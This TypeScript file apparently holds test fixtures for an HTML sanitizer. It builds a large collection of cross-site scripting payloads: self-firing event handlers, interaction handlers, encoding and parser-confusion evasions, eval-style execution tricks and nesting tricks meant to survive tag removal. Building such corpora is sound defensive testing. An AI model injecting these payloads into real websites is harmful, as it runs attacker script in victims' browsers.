import { crossed, entities, words, type Payload } from './payload.ts'

const SELF_FIRING: readonly Payload[] = [
  js => `<img src=x onerror=${js}>`,
  js =>
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="${js}">`,
  js => `<image src=x onerror=${js}>`,
  js => `<picture><source srcset=x><img onerror=${js}></picture>`,
  js => `<video src=x onerror=${js}></video>`,
  js => `<video><source onerror=${js} src=x></video>`,
  js => `<audio src=x onerror=${js}></audio>`,
  js =>
    `<audio controls ondurationchange=${js}><source src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA=></audio>`,
  js => `<svg onload=${js}></svg>`,
  js => `<svg><image href=x onerror=${js}></image></svg>`,
  js => `<svg><style onload=${js}></style></svg>`,
  js => `<svg><animate onbegin=${js} attributeName=x dur=1s></animate></svg>`,
  js => `<svg><set onbegin=${js} attributeName=x dur=1s></set></svg>`,
  js => `<svg><animate onend=${js} attributeName=x dur=1ms></animate></svg>`,
  js => `<svg><discard onbegin=${js}></discard></svg>`,
  js => `<style onload=${js}></style>`,
  js => `<style onerror=${js}>@import 'x'</style>`,
  js => `<link rel=stylesheet href=x onerror=${js}>`,
  js => `<link rel=preload as=image href=x onerror=${js}>`,
  js => `<script src=x onerror=${js}></script>`,
  js => `<iframe onload=${js}></iframe>`,
  js => `<iframe src=about:blank onload=${js}></iframe>`,
  js => `<object data=x onerror=${js}></object>`,
  js => `<object onerror=${js} type=image/png data=x></object>`,
  js => `<embed src=x onload=${js}>`,
  js => `<details open ontoggle=${js}><summary>x</summary></details>`,
  js => `<input autofocus onfocus=${js}>`,
  js => `<textarea autofocus onfocus=${js}></textarea>`,
  js => `<select autofocus onfocus=${js}></select>`,
  js => `<button autofocus onfocusin=${js}>x</button>`,
  js => `<p tabindex=1 autofocus onfocus=${js}>x</p>`,
  js => `<a id=x tabindex=1 onfocus=${js}></a>`,
  js => `<xss autofocus tabindex=1 onfocus=${js}></xss>`,
  js => `<marquee onstart=${js}>x</marquee>`,
  js => `<marquee loop=1 width=0 onfinish=${js}>x</marquee>`,
  js => `<body onload=${js}>`,
  js => `<body onpageshow=${js}>`,
  js => `<frameset onload=${js}></frameset>`,
  js => `<input type=image src=x onerror=${js}>`,
  js => `<img srcset=x onerror=${js}>`,
  js => `<img src=x onerror=${js} onload=${js}>`,
  js => `<track onerror=${js}><video><track default src=x onerror=${js}></video>`,
  js => `<p style="animation:none 1ms" onanimationstart=${js}>x</p>`,
  js => `<p hidden=until-found onbeforematch=${js}>x</p>`,
  js => `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${js}>x</p>`,
  js => `<dialog open onclose=${js}><form method=dialog><button>x</button></form></dialog>`,
]

const WAITING = words(`
  onabort onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforepaste onbeforetoggle
  onblur oncancel oncanplay oncanplaythrough onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend
  ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onemptied onended onfocus onfocusin onfocusout onformdata
  onfullscreenchange ongotpointercapture oninput oninvalid onkeydown onkeypress onkeyup onloadeddata onloadedmetadata onloadstart onmousedown
  onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpaste onpause onplay onplaying onpointercancel
  onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onprogress onratechange
  onreset onresize onscroll onscrollend onsearch onseeked onseeking onselect onselectionchange onselectstart onslotchange onstalled onsubmit
  onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitionend onvolumechange onwaiting onwheel`)

const HOLDERS = words(
  'p div span b a img table td li h2 blockquote figure font center svg math form input button video xss-a',
)
const waiting: Payload[] = WAITING.map((name, index) => {
  const tag = HOLDERS[index % HOLDERS.length] ?? 'p'
  return js => `<${tag} tabindex=0 ${name}="${js}">x</${tag}>`
})

const WRITTEN: readonly ((js: string) => string)[] = [
  js => `<IMG SRC=X ONERROR=${js}>`,
  js => `<iMg sRc=x oNeRrOr="${js}">`,
  js => `<img/src=x/onerror=${js}>`,
  js => `<img\nsrc=x\nonerror\n=\n${js}>`,
  js => `<img\tsrc=x\tonerror\t=\t${js}>`,
  js => `<img\fsrc=x\fonerror=${js}>`,
  js => `<img src=x onerror='${js}'>`,
  js => `<img src=x onerror="${js}"`,
  js => `<img src=x onerror=${js}//`,
  js => `<img src=x onerror=${js} <p>`,
  js => `<img src=x \u0000onerror=${js}>`,
  js => `<img src=x onerror\u0000=${js}>`,
  js => `<im\u0000g src=x onerror=${js}>`,
  js => `<img src=x\u00a0onerror=${js} onerror=${js}>`,
  js => `<img src=\`x\`onerror=${js}>`,
  js => `<img src="x"onerror="${js}">`,
  js => `<img src=x """ onerror=${js}>`,
  js => `<img """><img src=x onerror=${js}>">`,
  js => `<<img src=x onerror=${js}>`,
  js => `<img <img src=x onerror=${js}>`,
  js => `<img src=x onerror=${entities(js, code => `&#${code};`)}>`,
  js => `<img src=x onerror=${entities(js, code => `&#${code.toString().padStart(7, '0')}`)}>`,
  js => `<img src=x onerror=${entities(js, code => `&#x${code.toString(16)};`)}>`,
  js => `<img src=x onerror=${entities(js, code => `&#X${code.toString(16)}`)}>`,
  js => `<img src=x onerror="${js.replace('(', '&lpar;').replace(')', '&rpar;')}">`,
  js => `<img src=x onerror="&Tab;${js}&NewLine;">`,
  js => `<img src=x onerror="${js.replace('h', '\\u0068')}">`,
  js => `<img src=x onerror="${js.replace('h', '\\u{68}')}">`,
  js => `<img src=x onerror="window['h'+'it']${js.slice(3)}">`,
  js => `<img src=x onerror="(0,eval)('${js}')">`,
  js => `<img src=x onerror="new Function('${js}')()">`,
  js => `<img src=x onerror="setTimeout('${js}')">`,
  js => `<img src=x onerror="[].constructor.constructor('${js}')()">`,
  js => `<img src=x onerror="throw onerror=()=>${js},1">`,
  js => `<img src=x onerror="location='javascript:${js}'">`,
  js => `<img src=x onerror="import('data:text/javascript,${js}')">`,
  js =>
    `<img src=x onerror="document.body.appendChild(Object.assign(document.createElement('script'),{text:'${js}'}))">`,
  js => `<img src=x onerror="document.write('<script>parent.${js}<\\/script>')">`,
  js => `<img src=x onerror="alert${js.slice(3)}">`,
  js => `<img src=x onerror="confirm${js.slice(3)}">`,
  js => `<img src=x onerror="prompt${js.slice(3)}">`,
  js => `<img src=x onerror="top.${js}">`,
  js => `<img src=x onerror=${js} alt="&quot;><img src=x onerror=${js}>">`,
  js => `<img alt="&lt;img src=x onerror=${js}&gt;" title="<img src=x onerror=${js}>" src=x>`,
  js => `&lt;img src=x onerror=${js}&gt;`,
  js => `%3Cimg src=x onerror=${js}%3E`,
  js => `\u{ff1c}img src=x onerror=${js}\u{ff1e}`,
  js => `\\u003cimg src=x onerror=${js}\\u003e`,
  js => `+ADw-img src=x onerror=${js}+AD4-`,
]

/** Removing an element must not create another one. */
const AROUND = words('script style iframe noscript object svg math template title xss')
const nested = crossed(
  AROUND,
  [0, 1] as const,
  (tag, kind) => js =>
    kind === 0
      ? `<${tag}><img src=x onerror=${js}></${tag}>`
      : `<i<${tag}>mg src=x on<${tag}>error=${js}></${tag}>`,
)

export const handlers: readonly Payload[] = [...SELF_FIRING, ...waiting, ...WRITTEN, ...nested]
